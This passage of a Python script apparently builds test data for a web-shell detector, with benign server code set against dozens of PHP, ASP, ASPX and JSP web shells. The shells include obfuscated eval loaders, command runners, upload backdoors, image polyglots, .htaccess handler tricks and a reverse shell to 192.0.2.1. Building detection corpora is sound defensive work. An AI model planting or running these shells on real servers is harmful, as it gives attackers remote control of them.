        if line in ("<?", "<!-- -->"):
            continue
        yield "p%d.php" % i, "<?php " + line + " ?>"
    for i, run in enumerate(RUNS):
        for j, tail in enumerate(TAILS):
            yield "big%d%d.php" % (i, j), BIG % (["by x", "c99"][j % 2], ["", "0" * 32][i % 2], run, tail)


def look_alikes():
    yield from php_texts()
    for i, t in enumerate(ASP):
        yield "a%d.asp" % i, t
    for i, t in enumerate(ASPX):
        yield "n%d.%s" % (i, "ashx" if "WebHandler" in t else "asmx" if "WebService" in t else "aspx"), t
    for i, t in enumerate(JSP):
        yield "j%d.%s" % (i, "jspx" if "xmlns" in t else "jsp"), t
    yield from MORE
    yield from SCRIPTS
    run = 'Dim c : c = Request("c")\r\nIf c <> "" Then Exec~ute c\r\n'.replace("~", "")
    yield "r01.asp", ("<%@ LANGUAGE = VBScript.Encode %>\n<%" + encoded(run) + "%>").encode()
    yield "r02.asp", ('<script language="JScript.Encode" runat=server>' + encoded("ev~al(Request('c')+'');".replace("~", "")) + "</script>").encode()
    yield "oab.aspx", OAB % OAB_SCRIPT
    yield "oab16.aspx", (OAB % OAB_SCRIPT).replace("~", "").encode("utf-16")
    yield "wide.php", ("<?php " + PHP_ONE[0] + "?>").replace("~", "").encode("utf-16-le")
    yield "pst.aspx", b"!BDN\x01\x02\x00\x00" + bytes(range(256)) * 40 + clean(ASPX[2]) + b"\x00" * 400
    yield "der.aspx", b"\x30\x82\x05\x10" + bytes(range(128, 256)) + clean(ASPX[0]) + b"\x00" * 40
    yield "x.gif", b"GIF89a\x01\x00\x01\x00" + clean("<?php " + PHP_ONE[3] + "?>")
    yield "x.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF" + bytes(range(256)) * 9 + clean("<?php " + PHP_ONE[27] + "?>") + bytes(range(256))
    yield "a.txt", "some text\n<?php " + PHP_ONE[0] + "?>"
    yield ".htaccess", "<FilesMatch \"x\\.jpg\">\nSetHandler application/x-httpd-php\n</FilesMatch>\n"
    yield "b/.htaccess", "AddType application/x-httpd-php .png\n"
    yield ".user.ini", "auto_prepend_file=logo.gif\n"
    yield "appended.php", "<?php\nfunction a($x) { return $x + 1; }\necho a(2);\n" + "// words\n" * 400 + "?>\n<html><body>" + "text " * 200 + "</body></html>\n<?php @ev~al($_POST['q']); ?>"
    yield "first.php", "<?php" + " " * 400 + "@ev~al($_POST['q']); ?><?php\n" + "".join("function f%d($a) { return strlen($a) + %d; }\n" % (i, i) for i in range(300))
    yield "tun.php", "<?php set_time_limit(0); @session_start(); $h = getallheaders(); if ($h['X-CMD'] == 'CONNECT') { $t = $h['X-TARGET']; $r = fsock~open($t, (int)$h['X-PORT']); $_SESSION['run'] = true; } ?>"
    yield "neo.php", "<?php set_time_limit(0); if ($_SERVER['HTTP_KWKQR'] == 'x') { $target_ary = explode('|', base64_decode(strtr($_SERVER['HTTP_ABCDE'], 'abc', 'cba'))); $target = $target_ary[0]; $port = (int)$target_ary[1]; $res = fsock~open($target, $port, $errno, $errstr, 3); stream_set_blocking($res, false); } ?>"


HARMLESS = [
    ("smarty.php", "<?php\nclass T { function run($tpl) { $code = $this->compile(file_get_contents($tpl)); ob_start(); ev~al('?>' . $code); return ob_get_clean(); } }\n"),
    ("wp.php", "<?php\nfunction do_action($tag) { $args = func_get_args(); foreach ($GLOBALS['wp_filter'][$tag] as $f) call_user_func_array($f, $args); }\n$action = isset($_REQUEST['action']) ? $_REQUEST['action'] : '';\ndo_action('admin_' . $action);\n"),
    ("conv.php", "<?php\nrequire 'config.php';\n$f = escapeshellarg($_GET['file']);\nex~ec(\"/usr/bin/convert $f out.png\", $o);\n"),
    ("up.php", "<?php\nrequire_once 'lib.php';\n$n = md5(uniqid()) . '.png';\nif (getimagesize($_FILES['f']['tmp_name'])) move_upl~oaded_file($_FILES['f']['tmp_name'], UPLOADS . '/' . $n);\n"),
    ("cache.php", "<?php\n$key = md5($_GET['id']);\nfile_put_con~tents('/var/cache/' . $key, serialize(array(1, 2)));\ninclude 'view.php';\n"),
    ("page.aspx", '<%@ Page Language="C#" Inherits="Shop.Cart" %><form runat="server"><asp:TextBox id="q" runat="server"/></form><% foreach (var i in Model.Items) { %><b><%= Html.Encode(i.Name) %></b><% } %>'),
    ("code.aspx", '<%@ Page Language="C#" %><script runat="server">void Page_Load(object s, EventArgs e) { if (Request["lang"] != null) { Session["lang"] = Request["lang"]; } lbl.Text = Server.HtmlEncode(Request["q"]); }</script>'),
    ("list.asp", '<%\nDim c, r\nSet c = Server.CreateObject("ADODB.Connection")\nc.Open Application("dsn")\nSet r = c.Exec~ute("select * from t where id=" & CInt(Request("id")))\nDo While Not r.EOF\nResponse.Write r("name")\nr.MoveNext\nLoop\n%>'),
    ("hello.jsp", '<%@ page import="java.util.*" %><% String n = request.getParameter("name"); session.setAttribute("name", n); out.println("Hello " + n); %>'),
    ("db.jsp", '<%@ page import="java.sql.*" %><% PreparedStatement p = ((Connection)application.getAttribute("c")).prepareStatement("select 1 where id=?"); p.setString(1, request.getParameter("id")); ResultSet r = p.executeQuery(); %>'),
    ("oab.txt", OAB % "https://mail.example/OAB"),
    ("doc.md", "Never write `ev~al($_POST['x'])` in PHP.\n"), ("a.ejs", "<% for (var i of items) { %><li><%= i.name %></li><% } %>"),
    ("php.conf", "AddType application/x-httpd-php .php\n<FilesMatch \"\\.php$\">\nSetHandler application/x-httpd-php\n</FilesMatch>\n"),
    ("map.png", b"\x89PNG\r\n\x1a\n" + bytes((i * 37 + i // 251) % 256 for i in range(60000))),
    ("contact.php", "<?php\nif (!empty($_POST['m'])) { $m = filter_var($_POST['m'], FILTER_VALIDATE_EMAIL); if ($m) { mail('info@example.org', 'Form', strip_tags($_POST['t']), 'Reply-To: ' . $m); } }\n"),
    ("install.php", "<?php\n$l = my~sqli_connect($_POST['h'], $_POST['u'], $_POST['p']);\nmysqli_query($l, 'CREATE DATABASE ' . $_POST['d']);\nforeach (explode(';', file_get_contents('schema.sql')) as $q) { mysqli_query($l, $q); }\n"),
    ("news.php", "<?php require 'db.php'; set_time_limit(0);\nforeach ($db->query('select m from s') as $row) { ma~il($row['m'], $_POST['subject'], $_POST['text']); }\n"),
    ("friend.php", "<?php set_time_limit(30); ma~il($_POST['to'], 'A page for you', strip_tags($_POST['text']));\n"),
    ("shop.asp", ("<%@ LANGUAGE = VBScript.Encode %>\n<%" + encoded('Dim n : n = CInt(Request("n"))\r\nResponse.Write "<b>" & Server.HTMLEncode(n) & "</b>"\r\n') + "%>").encode()),
    ("draw.php", "<?php inc~lude 'img/logo.svg'; inc~lude('css/site.css'); echo 1;"),
    ("gettext.php", "<?php function t($_) { return $_; } $_ = 't'; echo $_('Save'), $_('Cancel');"),
    ("count.asmx", '<%@ WebService Language="C#" Class="S" %>\npublic class S : WebService { [WebMethod] public int Count(string a) { return Db.Scalar("select n from s where a = @a", a); }\n'
     '[WebMethod] public string Ping() { var p = new Process(); p.StartInfo.FileName = "db.exe"; p.Start(); return p.StandardOutput.ReadToEnd(); } }'),
    ("index.cshtml", '@model Shop.Order\n@{ ViewBag.Title = "Order"; var q = Request["q"]; }\n<p>@q</p>@Html.Raw(Model.Html)\n'),
    ("year.shtml", '<html><!--#ex~ec cmd="date +%Y" --><!--#ex~ec cgi="/cgi-bin/n.cgi" --><!--#echo var="QUERY_STRING" --></html>'),
    ("words.py", "from io import StringIO\nout = StringIO()\nx = out.getvalue()\nex~ec(x)\nt = '<%s> <% {ev~al(input.text)} %>'\n"),
    ("stats.cgi", "#!/usr/bin/perl\nmy $up = `uptime`; my %f; foreach (split /&/, $ENV{'QUERY_STRING'}) { my ($n, $v) = split /=/; $f{$n} = $v; }\nop~en(L, '/var/log/a.log'); while (<L>) { print if index($_, $f{host}) >= 0; } close L;\nprint $up;\n"),
    ("search.cgi", "#!/usr/bin/perl\n&ReadParse(*input);\n@dirs = ( $input{'db'} );\n$dir = $root . '/' . $dirs[0];\n$cmd = \"cd $dir; $tool -d < $in > $out;\";\nsys~tem($cmd);\n"),
    ("send.pl", "#!/usr/bin/perl -T\nmy $to = $q->param('to'); $to =%NOT% /^([a-z@.]+)$/ or die;\nop~en(my $m, '|-', '/usr/sbin/sendmail', '-t'); print $m $q->param('text');\n"),
    ("log.py", "#!/usr/bin/env python3\nform = cgi.FieldStorage(); rev = form.getvalue('rev')\nout = subprocess.r~un(['git', 'log', '-1', rev], capture_output=True).stdout\n"),
    ("env.sh", "#!/bin/sh\necho \"query: $QUERY_STRING\"\ncase \"$QUERY_STRING\" in up) uptime ;; esac\nev~al \"$(ssh-agent -s)\"\n"),
    ("version.js", "const { execFile, exec } = require('child_process');\napp.get('/v', (req, res) => { ex~ec('git rev-parse ' + Number(req.query.n), (e, o) => res.send(o)); });\n"),
    ("app.rb", "get('/date') { `date +%F` }\npost('/up') { File.binwrite('x', params[:f][:tempfile].read) }\n"),
    ("tasks.cfm", '<cfexec~ute name="C:\\t\\index.exe" arguments="/all" timeout="60"></cfexecute><cfset n = Eval~uate("form.qty_" & i)>\n'
     '<cffi~le action="upload" filefield="p" destination="D:\\p" accept="image/png">'),
    ("info.php", "<?php phpinfo(); ?>"), ("x.html", "<script>ev~al(location.hash)</script>"),
]

HELD_OUT = [
    ("h01.php", "<?php $a=$_POST;$b=$a['x'];@ev~al(\"$b\");"),
    ("h02.php", "<?php\n$password='pw';\n$shellname='x';\n@$c=base64_decode('ZQ==').'val';\nfunction root_css(){}\nif(isset($_POST['pw'])){@ev~al($_POST['pw']);}\n"),
    ("h03.php", "<?php $_GET['a1']=='x'?ev~al($_GET['a2']):0; ?>"),
    ("h04.php", "<?php ($b4dboy = $_POST['b4dboy']) && @preg_rep~lace('/ad/e','@'.str_rot13('riny').'($b4dboy)', 'add');?>"),
    ("h05.php", "<?php $item['x']='as'.'sert';$array[]=$item;$array[0]['x']($_POST['cmd']);?>"),
    ("h06.php", "<?php @sess~ion_start(); $f = array('b','a','s','e'); $g = implode('', $f).'64_decode'; $h = $g('c3lzdGVt'); $h($_SERVER['HTTP_ACCEPT_LANGUAGE']);"),
    ("h07.php", "<?php $x = create_func~tion('$c', \"ev~al(\\$c);\"); $x(base64_decode($_POST['q'])); ?>"),
    ("h08.php", "<?php if($_POST){$a=array_values($_POST);@$a[0]($a[1]);}?>"),
    ("h09.php", "<form method=get><input name=cmd></form><pre><?php if($_GET['cmd']) { sys~tem($_GET['cmd'] . ' 2>&1'); } ?></pre>"),
    ("h10.php", "<?php $cmd = ($_REQUEST['cmd']); echo \"<pre>\"; sys~tem($cmd); echo \"</pre>\"; die; ?>"),
    ("h11.php", "<?php\n$sF=\"PCT4BA6ODSE_\";$s21=strtolower($sF[4].$sF[5].$sF[9].$sF[10].$sF[6].$sF[3].$sF[11].$sF[8].$sF[10].$sF[1].$sF[7].$sF[8].$sF[10]);$s22=${strtoupper($sF[11].$sF[0].$sF[7].$sF[9].$sF[2])}['n985de9'];if(isset($s22)){ev~al($s21($s22));}?>"),
    ("h12.php", "<?php $string='';$password='tk';$u=$_SERVER['HTTP_USER_AGENT'];if(strpos($u,$password)!==false){$p=explode('|',$u);ev~al($p[1]);}"),
    ("h13.php", "<?php class Foo{private $m;public function __construct($m){$this->m=$m;} public function go($a){$x=$this->m;return $x($a);}} $o=new Foo($_GET['m']);$o->go($_GET['a']);"),
    ("h14.php", "<?php header('X: y'); $h=fopen('.sess.php','w'); fwr~ite($h,base64_decode('%s')); fclose($h); echo 'done';" % "PD9waHAgZXZhbCgkX1BPU1RbMV0pOw=="),
    ("h15.php", "<?php if(isset($_POST['Submit'])){ $filedir = ''; $userfile_name = $_FILES['image']['name']; $userfile_tmp = $_FILES['image']['tmp_name']; if (isset($_FILES['image']['name'])) { $abod = $filedir.$userfile_name; @move_upl~oaded_file($userfile_tmp, $abod); echo \"Done ==> $userfile_name\"; } } else { echo '<form method=POST enctype=multipart/form-data><input type=file name=image><input type=Submit name=Submit></form>'; } ?>"),
    ("h16.php", "<?php $O00OO0=urldecode('%6E1%7A%62%2F%6D%615%5C%76%740%6928%2D%70%78%75%71%79%2A6%6C%72%6B%64%679%5F%65%68%63%73%77%6F4%2B%6637%6A');$O00O0O=$O00OO0{3}.$O00OO0{6}.$O00OO0{33}.$O00OO0{30};$O0OO00=$O00OO0{33}.$O00OO0{10}.$O00OO0{24};ev~al($O00O0O('aaa').$O0OO00);ev~al($O00O0O($_POST['x']));"),
    ("h17.php", "<?php\n$auth_pass = '%s';\n$color = '#df5';\n$default_action = 'FilesMan';\n@define('SELF_PATH', __FILE__);\npreg_rep~lace('/.*/e',\"\\x65\\x76\\x61\\x6C\\x28\\x67\\x7A\\x69\\x6E\\x66\\x6C\\x61\\x74\\x65\\x28\\x62\\x61\\x73\\x65\\x36\\x34\\x5F\\x64\\x65\\x63\\x6F\\x64\\x65\\x28'%s'\\x29\\x29\\x29\\x3B\",'.');" % ("0" * 32, "7X1re9s2z" * 80)),
    ("h18.php", "<?php function ex($cfe) { $res = ''; if (!empty($cfe)) { if(function_exists('ex~ec')) { @ex~ec($cfe,$res); $res = join(\"\\n\",$res); } elseif(function_exists('sh~ell_exec')) { $res = @sh~ell_exec($cfe); } } return $res; } echo ex($HTTP_POST_VARS['c']);"),
    ("h19.php", "<?php $a=get_defined_vars(); ev~al(end(current($a)));"),
    ("h20.php", "<?php ev~al(hex2bin(current(array_reverse(getallheaders()))));"),
    ("h21.php", "<?php\nset_time_limit(0);\n$ip='192.0.2.1';$port=4444;$sock=fsockopen($ip,$port);$p=pr~oc_open('/bin/sh -i',array(0=>$sock,1=>$sock,2=>$sock),$pipes);\n"),
    ("h22.php", "<?php $k = md5($_COOKIE['t']); if($k === '21232f297a57a5a743894a0e4a801fc3') { $d = pack('H*', $_COOKIE['p']); $f = tempnam('/tmp','x'); file_put_con~tents($f, $d); include $f; unlink($f); }"),
    ("h23.php", "<?php $s = 'sy'; $s .= 'st'; $s .= 'em'; if (!empty($_POST['q'])) { ob_start(); $s($_POST['q']); $o = ob_get_clean(); echo $o; }"),
    ("h24.phtml", "<?= @$_POST['f'] ? ($_POST['f'])(...$_POST['a']) : 0 ?>"),
    ("h25.php", "<?php $p = json_decode(file_get_contents('php://input'), true); echo call_user_func($p['f'], $p['a']);"),
    ("h26.php", "<?php /* Plugin Name: X */ add_action('init', function(){ if(isset($_GET['zz'])) { @ev~al(base64_decode($_GET['zz'])); exit; } });"),
    ("h27.php", "<?php $m = new PDO('sqlite::memory:'); $m->sqliteCreateFunction('f', 'sys~tem'); $m->query(\"select f('\".$_GET['c'].\"')\");"),
    ("h28.php", "<?php\n@ini_set('display_errors',0);\n$db=$_POST['db'];\nfunction sws($n){$r='';for($i=0;$i<strlen($n);$i+=2)$r.=chr(hexdec($n[$i].$n[$i+1]));return $r;}\n@ev~al(sws($_POST['pw']));"),
    ("h29.php", "<?php @$GLOBALS{'x'} = $_POST['c']; $y = $GLOBALS['x']; @as~sert($y);"),
    ("h30.php", "<?php $_[]=1;$_[]++;$__=$_[0];$f=\"sys\".\"tem\";$f(trim(strip_tags($_GET['z'])));"),
    ("g01.asp", "<%\nOn Error Resume Next\nDim c\nc = Request.QueryString(\"c\")\nIf c <> \"\" Then\n  Dim w\n  Set w = Server.CreateObject(\"WScript.Shell\")\n  Dim e\n  Set e = w.Ex~ec(\"%comspec% /c \" & c)\n  Response.Write(\"<pre>\" & Server.HTMLEncode(e.StdOut.ReadAll) & \"</pre>\")\nEnd If\n%>"),
    ("g02.asp", "<%dim a(5)\na(0)=request(\"a\")\nev~al (a(0))%>"),
    ("g03.asp", "<%s=\"exec\"&\"ute\":ExecuteGlobal(s&\"(request(\"\"x\"\"))\")%><%exec~ute(request(\"y\"))%>"),
    ("g04.asp", "<script runat=server language=javascript>var a=Request('k')+'';ev~al(a);</script>"),
    ("g05.asp", "<%\nFunction MorfiCoder(Code)\nMorfiCoder=Replace(Replace(StrReverse(Code),\"/*/\",\"\"\"\"),\"\\*\\\",vbCrlf)\nEnd Function\nExec~ute MorfiCoder(\")/*/z/*/(tseuqer lave\")\n%>"),
    ("g06.asp", "<%\nset fs=Server.CreateObject(\"Scripting.FileSystemObject\")\nif Request(\"act\")=\"save\" then\nset f=fs.OpenTextFile(Request(\"path\"),2,True)\nf.Wri~te(Request(\"text\"))\nf.Close\nend if\nif Request(\"act\")=\"del\" then fs.DeleteFile Request(\"path\")\nfor each x in fs.GetFolder(Request(\"dir\")).Files\nResponse.Write x.Name & \"<br>\"\nnext\n%>"),
    ("g07.aspx", '<%@ Page Language="C#" Debug="true" Trace="false" %>\n<%@ Import Namespace="System.Diagnostics" %>\n<script Language="c#" runat="server">\nvoid Page_Load(object sender, EventArgs e)\n{\n}\nstring ExcuteCmd(string arg)\n{\nProcessStartInfo psi = new ProcessSt~artInfo();\npsi.FileName = "cmd.exe";\npsi.Argum~ents = "/c "+arg;\npsi.RedirectStandardOutput = true;\npsi.UseShellExecute = false;\nProcess p = Process.Start(psi);\nreturn p.StandardOutput.ReadToEnd();\n}\nvoid cmdExe_Click(object sender, System.EventArgs e)\n{\nResponse.Write(Server.HtmlEncode(ExcuteCmd(txtArg.Text)));\n}\n</script>\n<form runat="server"><asp:TextBox id="txtArg" runat="server"></asp:TextBox></form>'),
    ("g08.aspx", '<%@ Page Language="C#" %><script runat="server">protected void Page_Load(object s, EventArgs e){ if(Request.Files.Count>0){ Request.Files[0].SaveA~s(Server.MapPath(".")+"\\\\"+Request.Files[0].FileName); } }</script>'),
    ("g09.aspx", '<%@ Page Language="VB" %><%Dim p As New System.Diagnostics.Process\np.StartInfo.FileName = Request("f")\np.StartInfo.Argum~ents = Request("a")\np.Start()%>'),
    ("g10.ashx", '<%@ WebHandler Language="C#" Class="G" %>\nusing System; using System.Web; using System.Reflection;\npublic class G : IHttpHandler, System.Web.SessionState.IRequiresSessionState { public void ProcessRequest(HttpContext context) { byte[] d = Convert.FromBase64String(context.Request.Form["k"]); for (int i = 0; i < d.Length; i++) d[i] ^= 7; Assembly a = Assembly.Lo~ad(d); a.CreateInstance("P").Equals(context); } public bool IsReusable { get { return true; } } }'),
    ("g11.aspx", '<script language="JScript" runat=server>function Page_Load(){var c=Request.Cookies["c"].Value;ev~al(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(c)),"unsafe");}</script>'),
    ("g12.aspx", '<%@ Page Language="C#" %><% var t = Type.GetTypeFromProgID("WScript." + "Shell"); dynamic w = Activator.CreateInstance(t); w.R~un(Request.QueryString["r"]); %>'),
    ("g13.aspx", '<%@Page Language="C#"%><%@Import Namespace="System.Reflection"%><%Session["k"]="e45e329feb5d925b"; byte[] k = Encoding.Default.GetBytes(Session["k"] + ""),c = Request.BinaryRead(Request.ContentLength);Assembly.Lo~ad(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this);%>'),
    ("k01.jsp", '<%@ page import="java.util.*,java.io.*"%><HTML><BODY><FORM METHOD="GET" NAME="f"><INPUT TYPE="text" NAME="cmd"></FORM><pre><%if (request.getParameter("cmd") != null) {out.println("Command: " + request.getParameter("cmd") + "<BR>");Process p = Runtime.getRun~time().ex~ec(request.getParameter("cmd"));OutputStream os = p.getOutputStream();InputStream in = p.getInputStream();DataInputStream dis = new DataInputStream(in);String disr = dis.readLine();while ( disr != null ) {out.println(disr); disr = dis.readLine(); }}%></pre>'),
    ("k02.jsp", '<%! public static String excuteCmd(String c) { StringBuilder line = new StringBuilder(); try { Process pro = Runtime.getRun~time().ex~ec(c); BufferedReader buf = new BufferedReader(new InputStreamReader(pro.getInputStream())); String temp = null; while ((temp = buf.readLine()) != null) { line.append(temp+"\\n"); } } catch (Exception e) { line.append(e.getMessage()); } return line.toString(); }%><% if("x".equals(request.getParameter("pwd"))&&!"".equals(request.getParameter("cmd"))){ out.println("<pre>"+excuteCmd(request.getParameter("cmd"))+"</pre>"); } %>'),
    ("k03.jsp", '<% String a = new String(new sun.misc.BASE64Decoder().decodeBuffer("amF2YS5sYW5nLlJ1bnRpbWU=")); String b = request.getParameter("i"); Class c = Class.forName(a); Object o = c.getMethod(new String(new byte[]{103,101,116}) + "Runtime").invoke(null); c.getMethod("e" + "xec", String.class).invoke(o, b); %>'),
    ("k04.jsp", '<%@page import="java.io.*"%><% String root = application.getRealPath("/"); String f = request.getParameter("f"); String c = request.getParameter("c"); if (f != null) { BufferedWriter w = new BufferedWriter(new FileWriter(root + f)); w.wri~te(c); w.close(); } %>'),
    ("k05.jspx", '<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="1.2"><jsp:declaration> class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte []b){return super.defineCl~ass(b,0,b.length);}}</jsp:declaration><jsp:scriptlet>byte[] k = request.getParameter("k").getBytes(); new U(this.getClass().getClassLoader()).g(k).newInstance().equals(pageContext);</jsp:scriptlet></jsp:root>'),
    ("k06.jsp", '<%@ page import="java.lang.reflect.*"%><% byte[] b = java.util.Base64.getDecoder().decode(request.getParameter("b")); Method m = ClassLoader.class.getDeclaredMethod("define" + "Class", byte[].class, int.class, int.class); m.setAccessible(true); ((Class) m.invoke(Thread.currentThread().getContextClassLoader(), b, 0, b.length)).newInstance(); %>'),
    ("k07.jsp", '<%@page import="java.io.*,java.util.*,java.net.*,java.sql.*,java.text.*"%><%!String Pwd="caidao";String EC(String s,String c)throws Exception{return s;}Connection GC(String s)throws Exception{String[] x=s.trim().split("\\r\\n");Class.forName(x[0].trim()).newInstance();Connection c=DriverManager.getConn~ection(x[1].trim());return c;}void AA(StringBuffer sb)throws Exception{File r[]=File.listRoots();}void MM(String c, StringBuffer sb)throws Exception{Process p=Runtime.getRun~time().ex~ec(c);}%><%String Z=EC(request.getParameter(Pwd)+"","");String z1=EC(request.getParameter("z1")+"","");StringBuffer sb=new StringBuffer("");if(Z.equals("A")){AA(sb);}else if(Z.equals("M")){MM(z1,sb);}%>'),
    ("k08.jsp", '<% if ("POST".equals(request.getMethod())) { java.io.InputStream i = request.getInputStream(); java.io.FileOutputStream o = new java.io.FileOutputStream(request.getHeader("F")); byte[] b = new byte[4096]; int n; while ((n = i.read(b)) > 0) o.wri~te(b, 0, n); o.close(); } %>'),
    ("m01.png", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4 + b"<?php @ev" + b"al($_GET['x']);?>" + bytes(range(200))),
    ("m02.txt", "GIF89a\n<?php sys~tem($_REQUEST['c']); ?>"),
    ("m03.css", "body { color: red }\n/*<?php @as~sert($_POST['x']); ?>*/"),
    ("m04.config", "<configuration/>\n<!--\n<% ev~al request(\"x\") %>\n-->"),
    ("m05/.htaccess", "php_value auto_append_file \"data:;base64,PD9w\"\n"),
    ("m06/.htaccess", "AddHandler application/x-httpd-php5 .jpeg\n"),
    ("m07.aspx", b"\x30\x82\x0a\x10\x30\x82" + bytes(range(100, 256)) + b'<%@ Page Language="C#"%><% System.Diagnostics.Process.St' + b'art("cmd.exe", "/c " + Request["x"]); %>' + b"\x00\x05"),
]


def frames(items):
    for name, text in items:
        data = clean(text)
        yield b"%s %d\n" % (name.encode(), len(data)) + data


if __name__ == "__main__":
    import sys
    out = sys.stdout.buffer
    for f in frames({"held": HELD_OUT, "harmless": HARMLESS}.get(sys.argv[1] if len(sys.argv) > 1 else "", list(look_alikes()))):
        out.write(f)
